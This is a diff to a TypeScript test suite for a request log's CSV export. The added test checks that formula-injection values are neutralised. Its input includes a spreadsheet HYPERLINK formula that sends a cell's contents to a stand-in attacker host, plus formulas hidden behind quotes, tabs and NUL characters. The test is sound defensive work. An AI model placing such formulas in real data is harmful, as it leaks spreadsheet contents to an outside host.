@@ -66,6 +66,28 @@ describe('the request log', () => {
     expect(record?.metadata?.tag).toBe('a\u0085b\u2028c');
   });
 
+  it('writes no CSV cell a spreadsheet runs as a formula, read with commas or with semicolons (as Excel does in many locales)', async () => {
+    const { id } = await chat({
+      model: 'openai/gpt-4o-mini',
+      messages,
+      user: 'csv-probe;=HYPERLINK("http://attacker.example/?"&A1,"open")',
+      metadata: { quoted: 'x;"=1+2', tab: 'y;\t=3', nul: '\u0000=4' },
+    });
+    await api.logEntry(id);
+    const { id: nulId } = await chat({ model: 'openai/gpt-4o-mini', messages, user: '\u0000=SUM(1,2)' });
+    await api.logEntry(nulId);
+    const csv = await (await fetch(`${tg.url}/api/logs/export?format=csv`)).text();
+    const rows = csv.split('\r\n');
+    const row = rows.find((line) => line.startsWith(id)) as string;
+    // Excel in a locale whose list separator is ';' (German, French, ...) splits each line at every ';', quotes or not:
+    // no piece may start (after any quotes) with =, +, -, @, tab, CR or NUL.
+    for (const cell of row.split(';').slice(1)) expect(cell, cell).not.toMatch(/^"*[=+\-@\t\r\0]/);
+    expect(row).toContain(`csv-probe;'=HYPERLINK`);
+    // Read with commas (RFC 4180), the cell of a NUL-led user tag starts with the apostrophe too.
+    const nulRow = rows.find((line) => line.startsWith(nulId)) as string;
+    expect(nulRow).toContain(`,"'\u0000=SUM(1,2)",`);
+  });
+
   it('logs a refused call whatever its query string says, with the model from the body only', async () => {
     const broken = await fetch(`${tg.url}/v1/chat/completions?x=/models/%ZZ`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{bad' });
     await broken.text();
